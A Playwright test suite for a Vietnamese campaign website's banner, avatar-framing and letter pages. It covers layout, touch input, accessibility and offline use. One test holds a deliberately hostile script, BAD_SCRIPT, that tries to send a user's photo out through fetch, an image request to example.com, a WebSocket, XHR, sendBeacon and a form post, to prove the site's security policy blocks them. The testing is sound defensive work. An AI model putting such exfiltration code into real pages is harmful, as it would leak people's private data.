"""The campaign's pages in a real browser: doors, fingers and keys, no network, no request that leaves."""

from __future__ import annotations

import io
import json
import subprocess
import urllib.parse
import zipfile
from collections.abc import Callable, Generator
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from PIL import Image
from playwright.sync_api import Browser, BrowserContext, CDPSession, Page, Request

from dxassets.api import FrameWanted, load_campaign
from dxassets.api import frame_photos as frame_by_command
from dxassets.renderers.frame import OPENING
from dxassets.renderers.site import LANGS, PAGES, page_path
from tests.site_support import (
    CHROMIUM,
    CU_JUT,
    HOSTILE,
    HOSTILE_NAME,
    ISSUER,
    NPM,
    ROOT,
    build_once,
    chromium,
    jpeg,
    landscape,
    served,
    shared_folder,
)

pytestmark = pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="chromium is not installed")
needs_npm = pytest.mark.skipif(
    not (NPM / "installed.lock").is_file(),
    reason="tools/web-tests has not fetched its packages: no npm or no network",
)
SUB_PATH = "tinh/chien-dich/"
PHONE, DESKTOP = {"width": 390, "height": 844}, {"width": 1280, "height": 800}
LEAST_TARGET = 44
FACEBOOK = (
    "Mozilla/5.0 (Linux; Android 13; wv) AppleWebKit/537.36 Chrome/120 Mobile Safari/537.36 "
    "[FB_IAB/FB4A;FBAV/440.0;]"
)
ZALO = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS 16_0 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148 Zalo iOS/475"
)


@pytest.fixture(scope="session")
def site(tmp_path_factory: pytest.TempPathFactory, worker_id: str) -> Path:
    return build_once(shared_folder(tmp_path_factory, worker_id))


@pytest.fixture(scope="module")
def browser() -> Generator[Browser]:
    with chromium() as browser:
        yield browser


@pytest.fixture(scope="module")
def address(site: Path, tmp_path_factory: pytest.TempPathFactory) -> Generator[str]:
    """The site below a folder of a server, as a province's web office would lay it."""
    root = tmp_path_factory.mktemp("www")
    (root / SUB_PATH).parent.mkdir(parents=True)
    (root / SUB_PATH.rstrip("/")).symlink_to(site, target_is_directory=True)
    with served(root) as base:
        yield base + SUB_PATH


Open = Callable[..., Page]


@pytest.fixture
def open_page(browser: Browser, address: str) -> Generator[Open]:
    """Opens a page of the site; whatever it complains of is a failure."""
    contexts: list[BrowserContext] = []
    complaints: list[str] = []

    def show(path: str, *, phone: bool = False, base: str = address, **options: Any) -> Page:
        context = browser.new_context(
            viewport=PHONE if phone else DESKTOP,  # pyright: ignore[reportArgumentType]
            has_touch=phone,
            is_mobile=phone,
            service_workers=options.pop("service_workers", "block"),
            **options,
        )
        contexts.append(context)
        page = context.new_page()
        page.set_default_timeout(20_000)
        page.on("pageerror", lambda error: complaints.append(str(error)))
        page.on("console", lambda said: complaints.append(said.text) if said.type == "error" else None)
        page.goto(base + path)
        return page

    show.complaints = complaints  # type: ignore[attr-defined]
    yield show
    for context in contexts:
        context.close()
    assert complaints == []


@pytest.fixture(scope="module")
def photo(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return jpeg(landscape(1600, 1200), tmp_path_factory.mktemp("photo") / "ảnh của tôi.jpg")


def until(page: Page, true: str) -> None:
    """Waits for an expression to be true; playwright's own way needs an `eval`, which the pages forbid."""
    for _ in range(400):
        if page.evaluate(f"Boolean({true})"):
            return
        page.wait_for_timeout(25)
    raise AssertionError(f"never true: {true}")


def choose(page: Page, *files: Path) -> None:
    page.set_input_files("#file", [str(file) for file in files])
    page.wait_for_selector(".studio.has-photo")
    until(page, "document.getElementById('stage').dataset.frame !== undefined")


def placement(page: Page) -> dict[str, float]:
    page.wait_for_timeout(40)
    said: dict[str, float] = json.loads(page.get_attribute("#stage", "data-placement") or "")
    return said


def middle(page: Page) -> tuple[float, float, float]:
    """The stage's middle, and its side, in CSS px."""
    page.locator("#stage").scroll_into_view_if_needed()
    box = page.locator("#stage").bounding_box()
    assert box is not None
    return box["x"] + box["width"] / 2, box["y"] + box["height"] / 2, box["width"]


def saved(page: Page, button: str) -> Image.Image:
    with page.expect_download() as waiting:
        page.click(button)
    return Image.open(io.BytesIO(waiting.value.path().read_bytes()))


def stage_pixels(page: Page) -> np.ndarray:
    """What the stage shows."""
    page.wait_for_timeout(60)
    data = page.evaluate("document.getElementById('stage').toDataURL('image/png').split(',')[1]")
    import base64  # noqa: PLC0415

    return np.asarray(Image.open(io.BytesIO(base64.b64decode(data))).convert("RGB")).astype(int)


# --- the three doors


@pytest.mark.parametrize("phone", [True, False], ids=["phone", "desktop"])
def test_three_doors_lead_to_their_rooms(open_page: Open, *, phone: bool) -> None:
    page = open_page("", phone=phone)
    for door, heading in (("banner", "Banner"), ("avatar", "Khung ảnh đại diện"), ("letter", "Công văn")):
        page.click(f".door-{door}")
        page.wait_for_url(f"**/{door}.html*")  # the banner page soon says its choice behind a #
        assert page.inner_text("h1") == heading
        page.click(".brand")
        page.wait_for_url("**/index.html")


@pytest.mark.parametrize("name", PAGES)
def test_pages_fit_small_phones_and_fingers(open_page: Open, name: str, photo: Path) -> None:
    page = open_page(page_path(name, "vi"), phone=True)  # type: ignore[arg-type]
    if name == "avatar":
        choose(page, photo)
    for width in (360, 430):
        page.set_viewport_size({"width": width, "height": 780})
        assert page.evaluate("document.documentElement.scrollWidth") <= width
    small = page.evaluate(
        """(least) => [...document.querySelectorAll("a, button, input, summary, [role=option]")]
        .filter((each) => !each.closest(".sheet, .foot, .skip, .unseen, [hidden]") && each.type !== "file")
        .map((each) => (each.type === "radio" ? each.closest("label") : each))
        .map((each) => [each.outerHTML.slice(0, 80), each.getBoundingClientRect()])
        .filter(([, box]) => box.width > 1 && (box.width < least || box.height < least))
        .map(([what, box]) => `${what} ${box.width}×${box.height}`)""",
        LEAST_TARGET,
    )
    assert small == []


def test_english_is_a_switch_away_and_leads_back(open_page: Open) -> None:
    page = open_page(f"banner.html#agency={CU_JUT}&day=01-11&preset=share-1200x630")
    until(page, "document.getElementById('agency').value !== ''")
    page.click("#tongue")
    page.wait_for_url("**/en/banner.html#*")
    assert page.get_attribute("html", "lang") == "en"
    until(page, "document.getElementById('picture')?.naturalWidth === 1200")
    assert CU_JUT in page.get_attribute("#picture", "src")  # type: ignore[operator]
    page.click("#tongue")
    page.wait_for_url("**/chien-dich/banner.html#*")


def test_look_is_remembered(open_page: Open) -> None:
    page = open_page("", color_scheme="light")
    light = page.evaluate("getComputedStyle(document.body).backgroundColor")
    page.click("#look")
    dark = page.evaluate("getComputedStyle(document.body).backgroundColor")
    assert light != dark
    page.reload()
    assert page.evaluate("getComputedStyle(document.body).backgroundColor") == dark


# --- banners


def test_agency_is_found_by_keys_alone_and_without_marks(open_page: Open) -> None:
    page = open_page("banner.html")
    until(page, "document.getElementById('agency').value !== ''")
    page.focus("#agency")
    page.keyboard.type("cu jut")
    assert page.locator("#agencies li").all_inner_texts() == ["Ủy ban nhân dân huyện Cư Jút"]
    page.keyboard.press("ArrowDown")
    assert page.get_attribute("#agency", "aria-activedescendant") == f"agency-{CU_JUT}"
    page.keyboard.press("Enter")
    until(page, f"location.hash.includes('{CU_JUT}')")
    assert page.input_value("#agency") == "Ủy ban nhân dân huyện Cư Jút"
    page.keyboard.press("Tab")  # the days
    page.keyboard.press("ArrowRight")
    until(page, "location.hash.includes('01-11')")
    assert "01/11" in page.input_value("#alt")
    page.focus("#agency")
    page.keyboard.type("zzz")
    assert page.is_hidden("#agencies")
    assert "Không có cơ quan" in page.inner_text("#found")
    page.keyboard.press("Tab")
    assert page.input_value("#agency") == "Ủy ban nhân dân huyện Cư Jút"


def test_banner_is_shown_as_it_is_and_its_words_are_copied(open_page: Open, site: Path) -> None:
    page = open_page("banner.html", permissions=["clipboard-read", "clipboard-write"])
    for preset, width, height in (("leaderboard-728x90", 728, 90), ("share-1200x630", 1200, 630)):
        page.check(f'input[value="{preset}"]', force=True)
        until(page, f"document.getElementById('picture')?.naturalWidth === {width}")
        box = page.locator("#picture").bounding_box()
        assert box is not None
        assert box["width"] / box["height"] == pytest.approx(width / height, rel=0.01)
        assert box["width"] <= width
    assert page.is_hidden("#embed-field")
    page.check('input[value="leaderboard-728x90"]', force=True)
    page.click('[data-copy="embed"]')
    page.wait_for_selector(".toast.on")
    assert page.evaluate("navigator.clipboard.readText()") == page.input_value("#embed")
    assert '<img src="leaderboard-728x90.png"' in page.input_value("#embed")
    page.click('[data-copy="alt"]')
    page.wait_for_timeout(100)
    alt = page.evaluate("navigator.clipboard.readText()")
    assert alt == page.get_attribute("#picture", "alt")
    with page.expect_download() as waiting:
        page.click("#downloads a >> nth=1")
    own = site / "banner" / ISSUER / "10-10-digital/leaderboard-728x90.webp"
    assert waiting.value.path().read_bytes() == own.read_bytes()


def test_print_size_shows_its_preview_and_gives_its_pdf(open_page: Open) -> None:
    page = open_page("banner.html")
    page.check('input[value="poster-a4"]', force=True)
    until(page, "document.getElementById('picture')?.naturalWidth > 100")
    assert page.locator("#downloads a").count() == 1
    assert "PDF" in page.inner_text("#downloads")
    assert "210 × 297 mm" in page.inner_text("#caption")


def test_everything_comes_in_one_sound_archive(open_page: Open, site: Path) -> None:
    page = open_page(f"banner.html#agency={HOSTILE}")
    until(page, "document.getElementById('zip-words').textContent.includes(' 28 ')")
    assert page.input_value("#agency") == HOSTILE_NAME
    with page.expect_download() as waiting:
        page.click("#zip")
    with zipfile.ZipFile(waiting.value.path()) as archive:
        assert archive.testzip() is None
        assert len(archive.namelist()) == 28
        for name in archive.namelist():
            assert archive.read(name) == (site / "banner" / HOSTILE / name).read_bytes()


# --- avatar: the same maths as the command


def test_maths_are_those_of_the_command(browser: Browser) -> None:
    document = json.loads((ROOT / "tests/data/framing.json").read_text(encoding="utf-8"))
    module = (ROOT / "templates/site/js/framing.js").read_text(encoding="utf-8")
    page = browser.new_page()
    try:
        found = page.evaluate(
            """async ([module, { opening: [x, y, radius], side, drag, cases }]) => {
            const { settle, transformOf, moved } = await import(`data:text/javascript,${module}`);
            const opening = { x, y, radius };
            const told = ({ focusX, focusY, zoom, rotation }) => [focusX, focusY, zoom, rotation];
            return cases.map(({ photo: [width, height], asked: [focusX, focusY, zoom, rotation] }) => {
                const photo = { width, height };
                const settled = settle({ focusX, focusY, zoom, rotation }, photo);
                const { a, b, c, d, e, f } = transformOf(settled, photo, opening, side);
                const dragged = moved(settled, photo, opening, side, ...drag);
                return { settled: told(settled), transform: [a, b, c, d, e, f], dragged: told(dragged) };
            });
            }""",
            [urllib.parse.quote(module), document],
        )
    finally:
        page.close()
    assert len(found) == len(document["cases"]) > 20
    for case, here in zip(document["cases"], found, strict=True):
        for name in ("settled", "transform", "dragged"):
            assert here[name] == pytest.approx(case[name], rel=1e-7, abs=1e-6), (name, case)


@pytest.mark.parametrize(
    ("style", "theme", "keys"),
    [("ring", "digital", ""), ("square", "brocade", "++]]]]]"), ("ring", "light", "+++++++++")],
)
def test_saved_avatar_is_what_the_command_makes(
    open_page: Open, photo: Path, tmp_path: Path, style: str, theme: str, keys: str
) -> None:
    page = open_page("avatar.html")
    choose(page, photo)
    page.check(f'input[value="{theme}"]', force=True)
    page.check(f'input[value="{style}"]', force=True)
    until(page, f"document.getElementById('stage').dataset.frame === '10-10-{theme}-{style}'")
    page.focus("#stage")
    for key in keys:
        page.keyboard.press(key)
    said = placement(page)
    web = np.asarray(saved(page, "#save-png").convert("RGB")).astype(int)
    wanted = FrameWanted(
        day="10-10", theme=theme, style=style, size=1080, format="png",
        focus=f"{said['focusX']},{said['focusY']}", zoom=said["zoom"], rotate=said["rotation"],
    )  # fmt: skip
    frame_by_command(load_campaign(), [photo], out=tmp_path, wanted=wanted)
    (file,) = tmp_path.glob("*.png")
    own = np.asarray(Image.open(file).convert("RGB")).astype(int)
    assert web.shape == own.shape == (1080, 1080, 3)
    difference = np.abs(web - own)
    assert difference.mean() < 2
    assert difference.mean(axis=2)[difference.mean(axis=2) > 60].size < 1080  # nothing is out of its place


def test_photo_follows_mouse_wheel_and_keys(open_page: Open, photo: Path) -> None:
    page = open_page("avatar.html")
    choose(page, photo)
    start = placement(page)
    assert start["zoom"] == 1
    x, y, side = middle(page)
    page.mouse.move(x, y)
    page.mouse.down()
    page.mouse.move(x - 60, y, steps=4)
    page.mouse.up()
    dragged = placement(page)
    scale = 1200 / (2 * OPENING.radius * side)  # px of the photo for a px of the screen
    assert (dragged["focusX"] - start["focusX"]) * 1600 == pytest.approx(60 * scale, rel=0.03)
    page.mouse.wheel(0, -400)
    zoomed = placement(page)
    assert zoomed["zoom"] > 1.5
    page.focus("#stage")
    page.keyboard.press("ArrowDown")
    assert placement(page)["focusY"] < zoomed["focusY"]
    page.keyboard.press("]")
    assert placement(page)["rotation"] == pytest.approx(3)
    page.keyboard.press("-")
    assert placement(page)["zoom"] == pytest.approx(zoomed["zoom"] / 1.1)
    page.keyboard.press("0")
    assert placement(page) == start


def touch(session: CDPSession, kind: str, *points: tuple[float, float]) -> None:
    session.send(
        "Input.dispatchTouchEvent",
        {"type": kind, "touchPoints": [{"x": x, "y": y, "id": at} for at, (x, y) in enumerate(points)]},
    )


def test_fingers_drag_pinch_and_turn(open_page: Open, photo: Path) -> None:
    page = open_page("avatar.html", phone=True)
    choose(page, photo)
    session = page.context.new_cdp_session(page)
    x, y, _ = middle(page)
    touch(session, "touchStart", (x, y))
    for step in range(1, 6):
        touch(session, "touchMove", (x - 8 * step, y))
    touch(session, "touchEnd")
    dragged = placement(page)
    assert dragged["focusX"] > 0.52
    touch(session, "touchStart", (x - 30, y), (x + 30, y))
    for step in range(1, 11):
        touch(session, "touchMove", (x - 30 - 4 * step, y), (x + 30 + 4 * step, y))
    touch(session, "touchEnd")
    pinched = placement(page)
    assert pinched["zoom"] == pytest.approx(70 / 30, rel=0.05)
    assert pinched["rotation"] == 0
    touch(session, "touchStart", (x - 60, y), (x + 60, y))
    for step in range(1, 16):
        angle = np.radians(3 * step)
        dx, dy = 60 * np.cos(angle), 60 * np.sin(angle)
        touch(session, "touchMove", (x - dx, y - dy), (x + dx, y + dy))
    touch(session, "touchEnd")
    assert placement(page)["rotation"] == pytest.approx(45 - 6, abs=4)


def test_point_under_the_wheel_stays_where_it_is(open_page: Open, photo: Path) -> None:
    page = open_page("avatar.html")
    choose(page, photo)
    page.focus("#stage")
    for _ in range(8):
        page.keyboard.press("+")
    x, y, side = middle(page)
    at = (x + 0.15 * side, y - 0.1 * side)
    where = lambda: page.evaluate(  # noqa: E731
        """([x, y]) => { const box = document.getElementById("stage").getBoundingClientRect();
        const p = JSON.parse(document.getElementById("stage").dataset.placement);
        const { opening } = JSON.parse(document.getElementById("data").textContent);
        const k = (p.zoom * 2 * opening.radius * box.width) / 1200;
        return [p.focusX + (x - box.left - opening.x * box.width) / k / 1600,
                p.focusY + (y - box.top - opening.y * box.height) / k / 1200]; }""",
        list(at),
    )
    before = where()
    page.mouse.move(*at)
    page.mouse.wheel(0, -200)
    page.wait_for_timeout(80)
    assert where() == pytest.approx(before, abs=0.004)


def test_buttons_and_sliders_do_what_fingers_do(open_page: Open, photo: Path) -> None:
    page = open_page("avatar.html")
    choose(page, photo)
    page.click('[data-do="zoom-in"]')
    assert placement(page)["zoom"] == pytest.approx(1.1)
    page.click('[data-do="turn-right"]')
    assert placement(page)["rotation"] == pytest.approx(90)
    page.locator("#zoom").fill("2")
    assert placement(page)["zoom"] == pytest.approx(4)
    page.locator("#turn").fill("-30")
    assert placement(page)["rotation"] == pytest.approx(-30)
    before = placement(page)
    for name in ("left", "up", "right", "down"):
        page.click(f'[data-do="{name}"]')
    assert placement(page) == pytest.approx(before)
    page.click('[data-do="reset"]')
    assert placement(page)["zoom"] == 1


def test_whole_avatar_is_made_by_keys_alone(open_page: Open, photo: Path) -> None:
    page = open_page("avatar.html")
    page.focus("#file")
    choose(page, photo)
    reached: list[str] = []
    page.focus("#stage")
    for _ in range(30):
        page.keyboard.press("Tab")
        name = page.evaluate(
            "(({ id, dataset, name }) => id || dataset.do || name || '')(document.activeElement)"
        )
        reached.append(name)
        if name == "save":
            break
    assert {"zoom-in", "turn-left", "left", "reset", "zoom", "turn", "day", "theme", "style", "save"} <= set(
        reached
    )
    with page.expect_download() as waiting:
        page.keyboard.press("Enter")
    picture = Image.open(io.BytesIO(waiting.value.path().read_bytes()))
    assert (picture.format, picture.size) == ("JPEG", (1080, 1080))
    assert waiting.value.suggested_filename == "anh-dai-dien-10-10-digital-ring.jpg"
    assert not picture.getexif()


# --- avatar: any photo


def test_all_eight_orientations_come_upright(open_page: Open, tmp_path: Path) -> None:
    page = open_page("avatar.html")
    upright = landscape(800, 600)
    turns = Image.Transpose
    back = {2: turns.FLIP_LEFT_RIGHT, 3: turns.ROTATE_180, 4: turns.FLIP_TOP_BOTTOM, 5: turns.TRANSPOSE,
            6: turns.ROTATE_90, 7: turns.TRANSVERSE, 8: turns.ROTATE_270}  # fmt: skip
    choose(page, jpeg(upright, tmp_path / "1.jpg", orientation=1))
    first = stage_pixels(page)
    for orientation, how in back.items():
        choose(page, jpeg(upright.transpose(how), tmp_path / f"{orientation}.jpg", orientation=orientation))
        assert np.abs(stage_pixels(page) - first).mean() < 1, orientation


@pytest.mark.parametrize(("width", "height"), [(8064, 6048), (5712, 4284), (1, 4000)])
def test_photos_of_any_size_are_framed(open_page: Open, tmp_path: Path, width: int, height: int) -> None:
    page = open_page("avatar.html", phone=True)
    choose(page, jpeg(landscape(width, height), tmp_path / "large.jpg"))
    assert page.inner_text("#message").startswith("Đã mở ảnh")
    picture = np.asarray(saved(page, "#save").convert("RGB")).astype(int)
    inside = picture[300:650, 350:730].reshape(-1, 3)
    assert inside.std(axis=0).max() > 8 or width == 1  # the photo is there
    most = page.evaluate("performance.memory ? performance.memory.usedJSHeapSize : 0")
    assert most < 200e6


def wrong_files(folder: Path) -> dict[str, Path]:
    """Files that are no photos, by what the page says of them."""
    whole = jpeg(landscape(600, 600), folder / "whole.jpg").read_bytes()
    files = {
        "rỗng": b"",
        "không phải ảnh. Hãy chọn": "đây là chữ".encode(),
        "HEIC": b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\0" * 64,
        "tệp PDF": b"%PDF-1.7\n",
        "video": b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom",
        "tài liệu": b"PK\x03\x04" + b"\0" * 30,
        "hỏng": whole[:40],
    }
    for at, data in enumerate(files.values()):
        (folder / f"{at}.jpg").write_bytes(data)
    return {words: folder / f"{at}.jpg" for at, words in enumerate(files)}


def test_wrong_files_are_told_in_plain_words(open_page: Open, tmp_path: Path, photo: Path) -> None:
    page = open_page("avatar.html")
    for words, file in wrong_files(tmp_path).items():
        page.set_input_files("#file", str(file))
        until(page, f"document.getElementById('message').textContent.includes({json.dumps(words)})")
        assert "wrong" in (page.get_attribute("#message", "class") or "")
        assert not page.locator(".studio.has-photo").count()
    choose(page, photo)
    page.set_input_files("#file", str(tmp_path / "3.jpg"))
    page.wait_for_selector(".message.wrong")
    assert page.locator(".studio.has-photo").count() == 1  # the photo that was there stays
    assert page.get_attribute("#file", "accept") == "image/jpeg,image/png,image/webp"


def test_a_dropped_photo_is_taken(open_page: Open, photo: Path) -> None:
    page = open_page("avatar.html")
    import base64  # noqa: PLC0415

    data = base64.b64encode(photo.read_bytes()).decode()
    page.evaluate(
        """(data) => { const bytes = Uint8Array.from(atob(data), (sign) => sign.charCodeAt(0));
        const files = new DataTransfer(); files.items.add(new File([bytes], "a.jpg", { type: "image/jpeg" }));
        const how = { dataTransfer: files, bubbles: true, cancelable: true };
        for (const name of ["dragenter", "dragover", "drop"])
            document.getElementById("drop").dispatchEvent(new DragEvent(name, how)); }""",
        data,
    )
    page.wait_for_selector(".studio.has-photo")


# --- avatar: nothing leaves


def test_no_request_leaves_while_a_photo_is_framed(open_page: Open, photo: Path, address: str) -> None:
    page = open_page("avatar.html")
    until(page, "document.getElementById('stage').dataset.frame !== undefined")
    asked: list[Request] = []
    page.on("request", lambda request: asked.append(request))  # noqa: PLW0108  (it wants a function)
    choose(page, photo)
    page.check('input[value="01-11"]', force=True)
    until(page, "document.getElementById('stage').dataset.frame.startsWith('01-11')")
    page.click('[data-do="zoom-in"]')
    saved(page, "#save")
    saved(page, "#save-png")
    away = [each for each in asked if not each.url.startswith(("blob:", "data:"))]
    assert [each.url.split("?")[0] for each in away] == [f"{address}frames/01-11-digital-ring.js"]
    assert all(each.method == "GET" and each.post_data is None for each in asked)


def test_even_a_bad_script_could_not_send_the_photo(browser: Browser, site: Path) -> None:
    received: list[str] = []
    page = browser.new_page()
    try:
        with served(site, received) as base:
            page.goto(f"{base}avatar.html", wait_until="networkidle")
            until(page, "document.getElementById('stage').dataset.frame")
            received.clear()
            failures: list[str | None] = []
            page.on("requestfailed", lambda request: failures.append(request.failure))
            page.on("requestfinished", lambda request: received.append(request.url))
            tried = page.evaluate(BAD_SCRIPT, base)
            page.wait_for_timeout(300)
    finally:
        page.close()
    assert {name for name, result in tried.items() if result == "sent"} <= {"beacon"}  # queued, then barred
    assert [each for each in received if "icons/" not in each] == []  # the browser's own, for its tab
    assert failures
    assert set(failures) == {"csp"}


BAD_SCRIPT = """async (own) => {
  const results = {};
  const attempt = async (name, act) => {
    try { await act(); results[name] = "sent"; } catch { results[name] = "barred"; }
  };
  const load = (what, address) => new Promise((resolve, reject) => {
    Object.assign(what, { onload: resolve, onopen: resolve, onerror: reject });
    if (address) what.src = address;
  });
  await attempt("fetch", () => fetch(own + "collect", { method: "POST", body: "photo" }));
  await attempt("fetch away", () => fetch("https://example.com/", { mode: "no-cors" }));
  await attempt("socket", () => load(new WebSocket("ws://127.0.0.1:9/")));
  await attempt("image away", () => load(new Image(), "https://example.com/?photo"));
  await attempt("request", () => {
    const request = new XMLHttpRequest();
    request.open("POST", own);
    const done = load(request);
    request.send("photo");
    return done;
  });
  results.beacon = navigator.sendBeacon(own + "collect", "photo") ? "sent" : "barred";
  const form = Object.assign(document.createElement("form"), { method: "post", action: own + "collect" });
  document.body.append(form);
  form.submit();
  return results;
}"""


# --- inside other apps, without a network, from a folder


@pytest.mark.parametrize(("agent", "app"), [(FACEBOOK, "Facebook"), (ZALO, "Zalo")])
def test_inside_an_app_the_picture_is_held(open_page: Open, photo: Path, agent: str, app: str) -> None:
    page = open_page("avatar.html", phone=True, user_agent=agent)
    assert f"trong {app}" in page.inner_text("#in-app")
    choose(page, photo)
    page.click("#save")
    page.wait_for_selector("#result[open]")
    until(page, "document.querySelector('#result img')?.naturalWidth === 1080")
    assert (page.get_attribute("#result img", "src") or "").startswith("data:image/jpeg;base64,")
    assert "Nhấn giữ" in page.inner_text("#result")
    page.click("#result-close")
    assert page.is_hidden("#result")


def test_everywhere_else_there_is_no_such_hint(open_page: Open) -> None:
    assert open_page("avatar.html").is_hidden("#in-app")


def test_share_sheet_gets_the_picture(open_page: Open, photo: Path) -> None:
    page = open_page("avatar.html", phone=True)
    page.add_init_script(
        "navigator.canShare = () => true; navigator.share = async (what) => { window.shared = what; };"
    )
    page.reload()
    choose(page, photo)
    page.click("#share")
    until(page, "window.shared")
    name, kind, size = page.evaluate("[shared.files[0].name, shared.files[0].type, shared.files[0].size]")
    assert (name, kind) == ("anh-dai-dien-10-10-digital-ring.jpg", "image/jpeg")
    assert size > 20_000


def test_pages_and_frames_work_without_a_network(open_page: Open, photo: Path) -> None:
    page = open_page("avatar.html", service_workers="allow")
    page.evaluate("navigator.serviceWorker.ready.then(() => true)")
    until(page, "navigator.serviceWorker.controller !== null")
    page.context.set_offline(True)
    page.reload()
    choose(page, photo)
    page.check('input[value="formal"]', force=True)
    page.check('input[value="square"]', force=True)
    until(page, "document.getElementById('stage').dataset.frame === '10-10-formal-square'")
    assert saved(page, "#save").size == (1080, 1080)
    for path in ("", "letter.html", "en/index.html"):
        page.goto(page.url.rsplit("/", 1)[0].removesuffix("/en") + "/" + path)
        assert page.locator("h1").count() == 1


def test_site_works_from_a_folder(open_page: Open, site: Path, photo: Path) -> None:
    base = site.as_uri() + "/"
    page = open_page("index.html", base=base)
    page.click(".door-avatar")
    choose(page, photo)
    page.check('input[value="brocade"]', force=True)
    until(page, "document.getElementById('stage').dataset.frame === '10-10-brocade-ring'")
    assert saved(page, "#save-png").size == (1080, 1080)
    page.click("#tongue")
    page.click('.tabs a[href="banner.html"]')
    until(page, "document.getElementById('picture')?.naturalWidth > 0")
    assert page.is_hidden("#zip")
    assert f"banner/{ISSUER}" in page.inner_text("#zip-note")
    page.click('.tabs a[href="letter.html"]')
    assert page.locator(".sheet table").count() == 1


def test_letter_prints_alone(open_page: Open) -> None:
    page = open_page("letter.html")
    page.emulate_media(media="print")
    assert not page.is_visible(".top")
    assert not page.is_visible(".actions")
    assert page.is_visible(".sheet")
    words = page.pdf(format="A4")
    assert words.startswith(b"%PDF")


# --- for everybody


@needs_npm
@pytest.mark.parametrize("lang", LANGS)
@pytest.mark.parametrize("name", PAGES)
def test_axe_finds_nothing(open_page: Open, photo: Path, name: str, lang: str) -> None:
    page = open_page(page_path(name, lang), phone=True, color_scheme="light", bypass_csp=True)  # type: ignore[arg-type]
    if name == "banner":
        until(page, "document.getElementById('picture')?.naturalWidth > 0")
    page.add_script_tag(path=str(NPM / "node_modules/axe-core/axe.min.js"))
    found: list[str] = []
    for look in ("light", "dark"):
        page.evaluate("(look) => { document.documentElement.dataset.look = look; }", look)
        found += violations(page, look)
    if name == "avatar":
        choose(page, photo)
        found += violations(page, "with a photo")
    if name == "banner":
        page.click("#agency")
        page.wait_for_selector("#agencies:not([hidden])")
        found += violations(page, "with its list")
    assert found == []


def violations(page: Page, when: str) -> list[str]:
    page.wait_for_timeout(220)  # colours fade
    result = page.evaluate("axe.run(document, { resultTypes: ['violations', 'incomplete'] })")
    assert len(result["passes"]) > 10
    return [
        f"{when}: {each['id']}: {node['html'][:120]} {node['failureSummary'][:200]}"
        for each in result["violations"]
        for node in each["nodes"]
    ]


@needs_npm
def test_html_is_valid(site: Path) -> None:
    pages = [str(site / page_path(name, lang)) for lang in LANGS for name in PAGES]
    told = subprocess.run(
        ["node", str(NPM / "node_modules/html-validate/bin/html-validate.mjs"), "--formatter", "json",
         "--config", str(ROOT / "tests/web/html-validate.json"), *pages],
        capture_output=True, text=True, check=False, timeout=60,
    )  # fmt: skip
    assert told.stdout, told.stderr
    found = [
        f"{Path(each['filePath']).name}:{message['line']}: {message['ruleId']}: {message['message']}"
        for each in json.loads(told.stdout)
        for message in each["messages"]
    ]
    assert found == []
    assert told.returncode == 0
